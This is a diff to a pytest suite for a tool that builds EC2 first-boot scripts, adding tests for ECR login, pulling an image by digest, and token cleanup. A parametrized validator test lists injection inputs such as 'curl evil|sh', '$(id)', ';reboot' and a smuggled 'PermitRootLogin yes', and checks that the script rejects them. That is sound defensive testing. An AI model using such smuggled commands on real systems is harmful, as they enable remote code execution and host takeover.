@@ -15,6 +15,7 @@ import shutil
 import socket
 import subprocess
 import time
+import uuid
 from pathlib import Path
 
 import pytest
@@ -132,6 +133,7 @@ def user_data(**changes):
     ({"user": "ubuntu$(id)"}, "login user"),
     ({"image_ref": "registry.example.com/demo:dev; curl evil|sh"}, "image reference"),
     ({"image_ref": "registry.example.com/demo:dev"}, "not pinned by digest"),
+    ({"image_ref": "registry.example.com/demo@sha256:" + "a" * 64, "ecr_region": "eu-west-1;reboot"}, "AWS region"),
     ({"groups": ["dev --index-url http://evil"]}, "invalid name"),
     ({"authorized_keys": ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI x\nPermitRootLogin yes"]}, "public key"),
 ])
@@ -145,18 +147,31 @@ def test_hostile_values_never_reach_the_script(change, message):
 
 def test_script_quotes_values_and_holds_no_secrets_and_fits_ec2():
     from mlenv.boxes import cloudinit
+    from mlenv.boxes.aws import ecr_region
 
     digest = "sha256:" + "a" * 64
-    script = cloudinit.render(user_data(image_ref=f"123456789012.dkr.ecr.eu-west-1.amazonaws.com/demo@{digest}",
+    image = f"123456789012.dkr.ecr.eu-west-1.amazonaws.com/demo@{digest}"
+    script = cloudinit.render(user_data(image_ref=image, ecr_region=ecr_region(image),
                                         authorized_keys=[public_key(DATA / "laptop.pub") + " me@laptop"]))
     assert script.startswith("#!/bin/bash\n")
-    assert f"docker pull -q 123456789012.dkr.ecr.eu-west-1.amazonaws.com/demo@{digest}" in script
-    assert '"ecr-login"' in script and "amazon-ecr-credential-helper" in script
+    assert f"docker pull -q {image}" in script
+    assert "ecr get-login-password --region eu-west-1" in script
+    assert "docker login --username AWS --password-stdin 123456789012.dkr.ecr.eu-west-1.amazonaws.com" in script
     assert "'ssh-ed25519 AAAA" in script  # keys are single shell words
     assert "PRIVATE KEY" not in script and "aws_secret" not in script.lower()
     packed = cloudinit.pack(script)
     assert len(packed) <= cloudinit.USER_DATA_LIMIT and cloudinit.unpack(packed) == script
     subprocess.run(["bash", "-n"], input=script, text=True, check=True)  # the shell parses it
+
+
+def test_the_box_logs_in_to_ecr_only_for_an_ecr_registry():
+    from mlenv.boxes.aws import ecr_region
+
+    digest = "@sha256:" + "a" * 64
+    assert ecr_region(f"123456789012.dkr.ecr.ap-southeast-2.amazonaws.com/team/demo:cpu-dev-1{digest}") \
+        == "ap-southeast-2"
+    assert ecr_region(f"127.0.0.1:5000/demo{digest}") is None and ecr_region(f"ghcr.io/me/demo{digest}") is None
+    assert ecr_region(None) is None
 
 
 # --- moto as a real HTTP server ---------------------------------------------------------------------
@@ -422,86 +437,204 @@ def test_plan_creates_nothing(aws, project):
 # --- the first-boot script, run for real ------------------------------------------------------------
 
 
+class BootHost:
+    """A plain machine for first-boot scripts: a container of the plain base image (root, host network:
+    the Debian mirror, PyPI, the test's package index, moto, the registries), with docker present as on
+    the Deep Learning AMI: Debian's docker CLI and the engine's socket.  No systemd there, so the
+    watchdog runs as a detached process; everything else is the script EC2 gets."""
+
+    def __init__(self, container, scripts: Path, environment: dict[str, str]) -> None:
+        self.container, self.scripts, self.environment = container, scripts, environment
+
+    def sh(self, command: str, **options) -> str:
+        result = self.container.exec_run(["sh", "-c", command], **options)
+        assert result.exit_code == 0, result.output.decode()
+        return result.output.decode()
+
+    def boot(self, script: str, user: str, name: str, env: dict[str, str] | None = None) -> str:
+        """Run ``script`` as cloud-init would (as root, once the AMI's login user exists); its output."""
+        (self.scripts / name).write_text(script)
+        self.sh(f"id -u {user} >/dev/null 2>&1 || useradd -m -s /bin/bash {user}")
+        code, output = self.container.exec_run(["bash", f"/var/lib/cloud/scripts/{name}"],
+                                                environment={**self.environment, **(env or {})})
+        text = output.decode()
+        assert code == 0 and "-----MLENV BOX READY-----" in text, text[-3000:]
+        return text
+
+
+@pytest.fixture(scope="module")
+def boot_host(docker_client, base_image, tmp_path_factory):
+    from tests.docker_services import BUILD_DOCKER, DOCKER_SOCKET
+
+    require(os.path.exists(BUILD_DOCKER), f"{BUILD_DOCKER} (Debian's docker.io client)")
+    scripts = tmp_path_factory.mktemp("user-data")
+    volumes = {str(scripts): {"bind": "/var/lib/cloud/scripts", "mode": "ro"},
+               BUILD_DOCKER: {"bind": "/usr/bin/docker", "mode": "ro"},
+               str(DOCKER_SOCKET): {"bind": "/var/run/docker.sock", "mode": "rw"}}
+    ca = Path("/etc/ssl/certs/ca-certificates.crt")
+    environment = {}
+    if ca.is_file():  # a TLS-intercepting proxy's CA (this machine's): the test host's, not the script's
+        volumes[str(ca)] = {"bind": "/etc/ssl/host-ca.crt", "mode": "ro"}
+        environment = {"SSL_CERT_FILE": "/etc/ssl/host-ca.crt", "PIP_CERT": "/etc/ssl/host-ca.crt"}
+    container = docker_client.containers.run(base_image, ["sleep", "infinity"], name=f"mlenv-test-boot-{os.getpid()}",
+                                              detach=True, network_mode="host", volumes=volumes,
+                                              environment=environment)
+    yield BootHost(container, scripts, environment)
+    container.remove(force=True)
+
+
 @pytest.mark.docker
-def test_user_data_runs_in_a_plain_container_and_does_what_it_promises(aws, project, docker_client, base_image,
-                                                                       tmp_path):
-    """What EC2 would get from `up`, run as root in a container of the plain base image (host network:
-    the Debian mirror, PyPI and the test's package index).  No systemd there, so the watchdog runs
-    as a detached process; everything else is the same script."""
+def test_user_data_runs_in_a_plain_container_and_does_what_it_promises(aws, project, boot_host):
+    """What EC2 would get from `up` (no registry: the lock synced into a venv), run for real."""
     from mlenv.boxes.cloudinit import parse_host_keys, unpack
     from mlenv.boxes.model import SSHRC, WATCHDOG_LOG
 
     laptop = public_key(DATA / "laptop.pub")
     plan = provider(project).plan_up(request("boot1", poll_s=1, authorized_keys=[laptop]))
-    script = tmp_path / "user-data"
-    script.write_bytes(unpack(plan.user_data).encode())
-    ca = Path("/etc/ssl/certs/ca-certificates.crt")
-    volumes = {str(script): {"bind": "/var/lib/cloud/user-data", "mode": "ro"}}
-    environment = {}
-    if ca.is_file():  # a TLS-intercepting proxy's CA (this machine's): the test host's, not the script's
-        volumes[str(ca)] = {"bind": "/etc/ssl/host-ca.crt", "mode": "ro"}
-        environment = {"SSL_CERT_FILE": "/etc/ssl/host-ca.crt", "PIP_CERT": "/etc/ssl/host-ca.crt"}
-    name = f"mlenv-test-cloudinit-{os.getpid()}"
-    container = docker_client.containers.run(base_image, ["sleep", "infinity"], name=name, detach=True,
-                                              network_mode="host", volumes=volumes, environment=environment)
+    text = boot_host.boot(unpack(plan.user_data), plan.user, "venv-box")
+    container, sh, name = boot_host.container, boot_host.sh, boot_host.container.name
+    # the keys printed are the box's real host keys
+    printed = parse_host_keys(text)
+    on_box = sorted(" ".join(line.split()[:2]) for line in sh("cat /etc/ssh/ssh_host_*_key.pub").splitlines())
+    assert sorted(printed) == on_box and any(key.startswith("ssh-ed25519 ") for key in printed)
+    assert "ClientAliveInterval 30" in sh("cat /etc/ssh/sshd_config.d/50-mlenv.conf")
+    sh("/usr/sbin/sshd -t")  # the configuration sshd would load is valid
+    home = sh(f"getent passwd {plan.user} | cut -d: -f6").strip()
+    assert laptop in sh(f"cat {home}/.ssh/authorized_keys")
+    # the watchdog runs, with the box's settings, and logs decisions
+    processes = sh("for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done")
+    watchdog = [line for line in processes.splitlines() if "watchdog.py" in line]
+    assert watchdog and "--action poweroff" in watchdog[0] and "--poll 1" in watchdog[0]
+    deadline = time.monotonic() + 30
+    while time.monotonic() < deadline and container.exec_run(["test", "-s", WATCHDOG_LOG]).exit_code != 0:
+        time.sleep(0.5)
+    decision = json.loads(sh(f"head -n1 {WATCHDOG_LOG}"))
+    assert decision  # one JSON line per poll
+    # an SSH login is activity: sshd runs /etc/ssh/sshrc (the docker provider's file) as the user
+    # at each login, and the watchdog's next poll reports the mark it leaves
+    assert sh("cat /etc/ssh/sshrc") == SSHRC
+    uid = sh(f"id -u {plan.user}").strip()
+    assert f"ssh-{uid} " not in sh(f"cat {WATCHDOG_LOG}")
+    login = container.exec_run(["/bin/sh", "/etc/ssh/sshrc"], user=plan.user)
+    assert login.exit_code == 0, login.output.decode()
+    seen = None
+    deadline = time.monotonic() + 30
+    while seen is None and time.monotonic() < deadline:
+        time.sleep(0.5)
+        polls = [json.loads(line) for line in sh(f"cat {WATCHDOG_LOG}").splitlines()]
+        seen = next((p["signals"]["login"] for p in polls if p.get("event") == "poll"
+                     and p["signals"]["login"].get("detail", "").startswith(f"ssh-{uid} ")), None)
+    assert seen is not None and seen["state"] == "active"
+    # the lock is synced into the venv, and the box's executor runs there (as mlenv would over
+    # SSH; here the docker CLI stands in for the SSH hop)
+    synced = sh("/opt/mlenv/venv/bin/python -c 'import tinylib, tinydep; print(tinydep.__version__)'")
+    assert synced.strip() == "1.1"
+    from mlenv.boxes.aws import BOX_VENV, ContainerOverSSH
+    from mlenv.boxes.ssh import VenvExecutor
+    from mlenv.execute import LocalExecutor, run_python
+
+    hop = ContainerOverSSH(LocalExecutor(), name, where="box boot1")
+    on_box = VenvExecutor(hop, BOX_VENV, "/var/lib/mlenv/keepalive", where="box boot1")
+    assert run_python(on_box, "import sys, tinylib; print(sys.prefix)").strip() == BOX_VENV
+
+
+def moto_ecr_password(moto_url: str) -> str:
+    """The registry password moto's ECR hands out (what `aws ecr get-login-password` prints)."""
+    import boto3
+
+    ecr = boto3.client("ecr", region_name="eu-west-1", endpoint_url=moto_url, aws_access_key_id="testing",
+                       aws_secret_access_key="testing")
+    token = ecr.get_authorization_token()["authorizationData"][0]["authorizationToken"]
+    return base64.b64decode(token).decode().split(":", 1)[1]
+
+
+@pytest.fixture(scope="module")
+def ecr_registry(moto_server, tmp_path_factory):
+    """A loopback registry that lets in only moto's ECR token: a pull from it needs a real ECR login.
+    (An ECR host name cannot lead to it: the engine would resolve it and want TLS on port 443.)"""
+    import bcrypt
+
+    from tests.docker_services import serve_registry
+
+    folder = tmp_path_factory.mktemp("ecr-registry")
+    hashed = bcrypt.hashpw(moto_ecr_password(moto_server).encode(), bcrypt.gensalt(rounds=4)).decode()
+    (folder / "htpasswd").write_text(f"AWS:{hashed}\n")
+    with serve_registry(folder, f"auth:\n  htpasswd:\n    realm: ecr\n    path: {folder / 'htpasswd'}\n") as address:
+        yield address
+
+
+def tiny_image(docker_client, tag: str) -> None:
+    """`sleep` and the C library it links, from this machine: a ~2 MB image that a box can run."""
+    import io
+    import re
+    import tarfile
+
+    linked = subprocess.run(["ldd", "/usr/bin/sleep"], capture_output=True, text=True, check=True).stdout
+    context = io.BytesIO()
+    with tarfile.open(fileobj=context, mode="w") as tar:
+        dockerfile = b"FROM scratch\nCOPY root/ /\n"
+        info = tarfile.TarInfo("Dockerfile")
+        info.size = len(dockerfile)
+        tar.addfile(info, io.BytesIO(dockerfile))
+        for path in ["/usr/bin/sleep", *re.findall(r"(/\S+) \(0x", linked)]:
+            tar.add(os.path.realpath(path), arcname=f"root{path}")
+    context.seek(0)
+    docker_client.images.build(fileobj=context, custom_context=True, tag=tag, rm=True)
+
+
+@pytest.mark.docker
+def test_user_data_logs_in_to_ecr_pulls_the_image_by_digest_and_runs_it(aws, moto_server, ecr_registry, boot_host,
+                                                                       docker_client, tmp_path):
+    """The image path of the first boot, for real: the script asks ECR (moto) for a token with the
+    credentials the AWS CLI finds (on EC2 the instance role's, from IMDS; here the environment's), logs
+    in to the registry, pulls the image by digest through the engine and starts the box's container."""
+    import docker
+
+    from mlenv.boxes import cloudinit
+    from mlenv.boxes.docker import container_name
+    from mlenv.boxes.model import KEEPALIVE_DIR
+    from tests.docker_services import BUILD_DOCKER
+
+    # pushed as a user pushes to ECR: `aws ecr get-login-password | docker login`, then `docker push`
+    repository = f"{ecr_registry}/tiny{os.getpid()}"
+    tiny_image(docker_client, f"{repository}:v1")
+    docker_config = tmp_path / "docker-config"
+    docker_config.mkdir()
+    cli_env = {**os.environ, "DOCKER_CONFIG": str(docker_config)}
+    subprocess.run([BUILD_DOCKER, "login", "--username", "AWS", "--password-stdin", ecr_registry],
+                   input=moto_ecr_password(moto_server), text=True, env=cli_env, check=True, capture_output=True)
+    subprocess.run([BUILD_DOCKER, "push", f"{repository}:v1"], env=cli_env, check=True, capture_output=True)
+    digest = docker_client.images.get(f"{repository}:v1").attrs["RepoDigests"][0].split("@")[1]
+    image_ref = f"{repository}@{digest}"
+    docker_client.images.remove(f"{repository}:v1", force=True)  # the box gets it from the registry only
+    with pytest.raises(docker.errors.APIError):
+        docker_client.images.pull(image_ref)  # nobody gets in without the ECR token
+
+    box = f"reg{uuid.uuid4().hex[:8]}"
+    made_on_host = [path for path in ("/srv/mlenv", os.path.dirname(KEEPALIVE_DIR)) if not os.path.exists(path)]
+    credentials = {key: aws[key] for key in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_ENDPOINT_URL")}
     try:
-        # cloud-init creates the image's login user before user scripts run
-        assert container.exec_run(["useradd", "-m", "-s", "/bin/bash", plan.user]).exit_code == 0
-        code, output = container.exec_run(["bash", "/var/lib/cloud/user-data"], environment=environment)
-        text = output.decode()
-        assert code == 0, text[-3000:]
-        assert "-----MLENV BOX READY-----" in text
-
-        def sh(command: str) -> str:
-            result = container.exec_run(["sh", "-c", command])
-            assert result.exit_code == 0, result.output.decode()
-            return result.output.decode()
-
-        # the keys printed are the box's real host keys
-        printed = parse_host_keys(text)
-        on_box = sorted(" ".join(line.split()[:2]) for line in sh("cat /etc/ssh/ssh_host_*_key.pub").splitlines())
-        assert sorted(printed) == on_box and any(key.startswith("ssh-ed25519 ") for key in printed)
-        assert "ClientAliveInterval 30" in sh("cat /etc/ssh/sshd_config.d/50-mlenv.conf")
-        sh("/usr/sbin/sshd -t")  # the configuration sshd would load is valid
-        home = sh(f"getent passwd {plan.user} | cut -d: -f6").strip()
-        assert laptop in sh(f"cat {home}/.ssh/authorized_keys")
-        # the watchdog runs, with the box's settings, and logs decisions
-        processes = sh("for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done")
-        watchdog = [line for line in processes.splitlines() if "watchdog.py" in line]
-        assert watchdog and "--action poweroff" in watchdog[0] and "--poll 1" in watchdog[0]
-        deadline = time.monotonic() + 30
-        while time.monotonic() < deadline and container.exec_run(["test", "-s", WATCHDOG_LOG]).exit_code != 0:
-            time.sleep(0.5)
-        decision = json.loads(sh(f"head -n1 {WATCHDOG_LOG}"))
-        assert decision  # one JSON line per poll
-        # an SSH login is activity: sshd runs /etc/ssh/sshrc (the docker provider's file) as the user
-        # at each login, and the watchdog's next poll reports the mark it leaves
-        assert sh("cat /etc/ssh/sshrc") == SSHRC
-        uid = sh(f"id -u {plan.user}").strip()
-        assert f"ssh-{uid} " not in sh(f"cat {WATCHDOG_LOG}")
-        login = container.exec_run(["/bin/sh", "/etc/ssh/sshrc"], user=plan.user)
-        assert login.exit_code == 0, login.output.decode()
-        seen = None
-        deadline = time.monotonic() + 30
-        while seen is None and time.monotonic() < deadline:
-            time.sleep(0.5)
-            polls = [json.loads(line) for line in sh(f"cat {WATCHDOG_LOG}").splitlines()]
-            seen = next((p["signals"]["login"] for p in polls if p.get("event") == "poll"
-                         and p["signals"]["login"].get("detail", "").startswith(f"ssh-{uid} ")), None)
-        assert seen is not None and seen["state"] == "active"
-        # the lock is synced into the venv, and the box's executor runs there (as mlenv would over
-        # SSH; here the docker CLI stands in for the SSH hop)
-        synced = sh("/opt/mlenv/venv/bin/python -c 'import tinylib, tinydep; print(tinydep.__version__)'")
-        assert synced.strip() == "1.1"
-        from mlenv.boxes.aws import BOX_VENV, ContainerOverSSH
-        from mlenv.boxes.ssh import VenvExecutor
-        from mlenv.execute import LocalExecutor, run_python
-
-        hop = ContainerOverSSH(LocalExecutor(), name, where="box boot1")
-        on_box = VenvExecutor(hop, BOX_VENV, "/var/lib/mlenv/keepalive", where="box boot1")
-        assert run_python(on_box, "import sys, tinylib; print(sys.prefix)").strip() == BOX_VENV
+        script = cloudinit.render(user_data(box=box, image_ref=image_ref, ecr_region="eu-west-1"))
+        output = boot_host.boot(script, "ubuntu", "image-box", env=credentials)
+        assert f"image pulled: {image_ref}" in output
+        running = docker_client.containers.get(container_name(box))
+        assert running.status == "running" and running.attrs["Config"]["Image"] == image_ref
+        assert image_ref in docker_client.images.get(running.attrs["Image"]).attrs["RepoDigests"]
+        assert f"{KEEPALIVE_DIR}:{KEEPALIVE_DIR}" in running.attrs["HostConfig"]["Binds"]
+        assert "docker" in boot_host.sh("id -nG ubuntu").split()  # `mlenv ssh` runs docker exec as the user
+        # the ECR token was used and thrown away: nowhere on the box's disk
+        password = moto_ecr_password(moto_server)
+        stored = base64.b64encode(f"AWS:{password}".encode()).decode()
+        left = boot_host.container.exec_run(["grep", "-rlF", "-e", password, "-e", stored, "/root", "/tmp", "/etc",
+                                             "/var/lib/mlenv", "/home"])
+        assert left.exit_code == 1, left.output.decode()
     finally:
-        container.remove(force=True)
+        for container in docker_client.containers.list(all=True, filters={"name": container_name(box)}):
+            container.remove(force=True)
+        for image in docker_client.images.list(name=repository):
+            docker_client.images.remove(image.id, force=True)
+        for path in made_on_host:
+            shutil.rmtree(path, ignore_errors=True)
 
 
 def test_the_cli_as_the_readme_shows(aws, project):
